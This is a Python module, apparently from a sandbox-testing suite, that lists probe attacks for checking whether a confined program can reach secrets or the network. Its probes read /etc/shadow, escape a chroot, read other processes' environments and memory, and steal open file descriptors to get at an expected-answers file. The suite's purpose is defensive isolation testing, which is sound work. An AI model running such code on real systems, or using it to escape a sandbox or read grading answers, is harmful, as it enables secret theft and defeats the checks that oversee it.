"""Attacks on secrets and on the network: what a program could read or whom it could call.

Owns sources and what is looked for. Each is harmless where it succeeds: it reads bait or sends a mark to a listener of the suite.
"""

from __future__ import annotations

from rollbook.sandbox.attacks.probe import Attack

ATTACKS = (
    Attack(
        "loopback_tcp",
        "connect to a service on the machine's loopback address",
        """
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("127.0.0.1", B["tcp"]))
    s.sendall(B["mark"].encode())
finally:
    s.close()
""",
    ),
    Attack(
        "loopback_udp",
        "send a datagram to a service on the machine's loopback address",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for _ in range(3):
        s.sendto(B["mark"].encode(), ("127.0.0.1", B["udp"]))
""",
    ),
    Attack(
        "abstract_socket",
        "connect to an abstract unix socket of the machine",
        """
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(2)
    s.connect("\\0" + B["abstract"])
    s.sendall(B["mark"].encode())
""",
    ),
    Attack(
        "named_socket",
        "connect to a unix socket in the machine's file system",
        """
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(2)
    s.connect(B["socket"])
    s.sendall(B["mark"].encode())
""",
    ),
    Attack(
        "named_datagram",
        "send a datagram from one of a pair of sockets to a unix socket in the machine's file system, as one logs",
        """
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        one, other = socket.socketpair(socket.AF_UNIX, kind)
        for place in (B["log"], "\\0" + B["abstract_log"]):
            try:
                one.sendto(B["mark"].encode(), place)
            except OSError:
                pass
    except OSError:
        pass
""",
    ),
    Attack(
        "shadow_file",
        "read the machine's password file",
        """
data = read("/etc/shadow")
if b"root:" in data:
    escaped(f"read {len(data)} bytes of /etc/shadow")
""",
        control_as_root=True,
    ),
    Attack(
        "answers_file",
        "read a world-readable file with the expected answers, by its path, through /proc and upwards",
        """
answers = B["answers"]
places = [answers, "../" * 12 + answers.lstrip("/")]
places += [f"/proc/{pid}/root{answers}" for pid in (1, os.getppid(), B["suite"], "self")]
places += [f"/proc/{pid}/cwd/{'../' * 12}{answers.lstrip('/')}" for pid in (1, os.getppid(), B["suite"])]
for place in places:
    leak(read(place))
""",
    ),
    Attack(
        "root_escape",
        "leave the root directory by chroot, by handle and by descriptors of directories",
        """
answers = B["answers"].lstrip("/")
try:
    os.mkdir("cage")
    os.chroot("cage")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
leak(read("/" + answers))
for fd in range(3, 256):
    for place in ("answers.json", "../" * 12 + answers):
        try:
            inner = os.open(place, os.O_RDONLY, dir_fd=fd)
        except OSError:
            continue
        leak(os.read(inner, 4096))
        os.close(inner)
""",
    ),
    Attack(
        "parent_environment",
        "find the service's secrets in the environment, its own or its ancestors'",
        """
leak(repr(dict(os.environ)).encode())
libc_environ = ctypes.POINTER(ctypes.c_char_p).in_dll(_libc, "environ")
for i in range(2000 if libc_environ else 0):
    if not libc_environ[i]:
        break
    leak(libc_environ[i])
for pid in ("self", os.getppid(), 1, B["suite"]):
    leak(read(f"/proc/{pid}/environ", 1 << 20))
""",
    ),
    Attack(
        "other_environment",
        "read the environment of another process of the machine",
        """
leak(read(f"/proc/{B['victim']}/environ", 1 << 20))
try:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = []
for pid in pids[:500]:
    leak(read(f"/proc/{pid}/environ", 1 << 20))
""",
        needs_victim=True,
    ),
    Attack(
        "process_list",
        "see the processes of the machine and what they were started with",
        """
try:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = []
for pid in [B["victim"], *pids[:500]]:
    leak(read(f"/proc/{pid}/cmdline"))
""",
        needs_victim=True,
    ),
    Attack(
        "memory_file",
        "read the answers out of the service's memory through /proc/PID/mem",
        """
for pid in (B["suite"], os.getppid(), 1):
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        leak(os.pread(fd, B["length"], B["address"]))
        os.close(fd)
    except OSError:
        pass
""",
    ),
    Attack(
        "memory_call",
        "read the answers out of the service's memory with process_vm_readv",
        """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(B["length"])
here = Vector(ctypes.addressof(buffer), B["length"])
there = Vector(B["address"], B["length"])
for pid in (B["suite"], os.getppid(), 1):
    got, _ = call("process_vm_readv", ctypes.c_long(pid), ctypes.byref(here), ctypes.c_long(1), ctypes.byref(there),
                  ctypes.c_long(1), ctypes.c_long(0))
    if got > 0:
        leak(buffer.raw)
""",
    ),
    Attack(
        "inherited_descriptors",
        "read descriptors that the service left open",
        """
import stat
for fd in range(3, 512):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    try:
        if stat.S_ISREG(mode):
            leak(os.pread(fd, 65536, 0))
        elif stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            os.set_blocking(fd, False)
            leak(os.read(fd, 65536))
            os.set_blocking(fd, True)
        elif stat.S_ISDIR(mode):
            escaped(f"descriptor {fd} is a directory with {os.listdir(fd)[:3]}")
    except OSError:
        pass
""",
    ),
    Attack(
        "stolen_descriptors",
        "take an open descriptor of the service with pidfd_getfd",
        """
for pid in (B["suite"], os.getppid(), 1):
    handle, _ = call("pidfd_open", ctypes.c_long(pid), ctypes.c_long(0))
    if handle < 0:
        continue
    for fd in range(3, 64):
        taken, _ = call("pidfd_getfd", ctypes.c_long(handle), ctypes.c_long(fd), ctypes.c_long(0))
        if taken >= 0:
            try:
                leak(os.pread(taken, 4096, 0))
            except OSError:
                pass
            os.close(taken)
""",
    ),
)
